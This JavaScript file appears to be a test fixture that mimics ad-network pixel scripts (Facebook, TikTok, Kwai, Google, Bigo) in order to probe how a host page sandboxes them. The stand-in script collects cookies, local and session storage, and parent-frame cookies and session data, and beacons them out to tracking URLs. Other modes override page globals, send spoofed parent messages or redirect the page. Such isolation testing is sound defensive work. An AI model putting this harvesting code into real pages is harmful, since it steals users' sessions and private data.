// Stands in for a network's pixel script, with the vendor's own interface: it works off what the official snippet has queued, and
// tells its vendor by requests. NETWORK and HOW are filled in. It also pries, as a script may: what it finds, it tells too.
;(() => {
  const network = 'NETWORK'
  const how = 'HOW'
  const told = {
    facebook: 'https://www.facebook.com/tr',
    tiktok: 'https://analytics.tiktok.com/api/v2/pixel',
    kwai: 'https://s21-def.ap4r.com/rest/n/log',
    google: 'https://www.google-analytics.com/g/collect',
    bigo: 'https://api.bytegle.site/bigoad/trackingevent',
  }[network]

  const attempt = (look) => {
    try {
      return String(look())
    } catch (error) {
      return `(${error.name})`
    }
  }
  const found = () => ({
    cookie: attempt(() => document.cookie),
    storage: attempt(() => JSON.stringify({ ...localStorage, ...sessionStorage })),
    top: attempt(() => parent.location.href),
    above: attempt(() => parent.document.cookie + parent.sessionStorage.getItem('MC_SESSION_INFO')),
    address: location.href,
    referrer: document.referrer,
  })
  const say = (event, id, more) => {
    const body = JSON.stringify({ network, event, id, more, found: found() })
    if (network === 'tiktok') fetch(told, { method: 'POST', mode: 'no-cors', body }).catch(() => {})
    else new Image().src = `${told}?said=${encodeURIComponent(body)}`
  }

  if (how === 'throw') throw new Error('the vendor has a bad day')
  if (how === 'replace') {
    for (const name of ['JSON', 'Promise', 'fetch', 'postMessage', 'setTimeout', 'Map', 'Reflect'])
      window[name] = () => {
        throw new Error('replaced')
      }
    parent.postMessage({ type: 'leave' }, '*')
    parent.postMessage('pixels:ready', '*')
    return
  }
  if (how === 'lead') {
    location.href = 'https://www.facebook.com/elsewhere'
    return
  }

  const lists = { tiktok: 'ttq', kwai: 'kwaiq' }
  if (network === 'facebook') {
    const { fbq } = window
    const run = (command, ...given) => {
      if (command === 'trackSingle' || command === 'trackSingleCustom')
        say(given[1], given[3]?.eventID, { pixel: given[0] })
    }
    fbq.callMethod = run
    for (const call of fbq.queue.splice(0)) run(...call)
  } else if (lists[network]) {
    const queue = window[lists[network]]
    const run = ([method, ...given]) => {
      if (method === 'page') say('page', given[1]?.event_id, given[0])
      if (method === 'track') say(given[0], (given[2] ?? given[1])?.event_id, given[1])
    }
    for (const call of queue.splice(0)) run(call)
    queue.page = (...given) => run(['page', ...given])
    queue.track = (...given) => run(['track', ...given])
  } else {
    const list = network === 'google' ? 'dataLayer' : 'bgdataLayer'
    const run = (call) => {
      const [command, name, given] = [...call]
      if (Object.prototype.toString.call(call) === '[object Arguments]' && command === 'event')
        say(name, given?.event_id, given)
    }
    const queue = window[list]
    for (const call of queue.splice(0)) run(call)
    queue.push = run
  }
})()
